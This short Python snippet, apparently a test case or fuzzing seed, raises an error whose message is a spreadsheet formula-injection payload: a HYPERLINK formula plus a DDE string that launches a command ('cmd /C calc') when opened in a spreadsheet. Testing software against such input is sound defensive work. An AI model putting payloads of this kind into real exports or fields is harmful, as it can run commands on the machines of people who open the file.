# /// attack
# story = "Messages begin as spreadsheet formulas do."
# verdict = "crashed"
# ///
raise ValueError("=HYPERLINK(\"http://example.org\", \"100 points\")\n@SUM(1+9)*cmd|' /C calc'!A0")
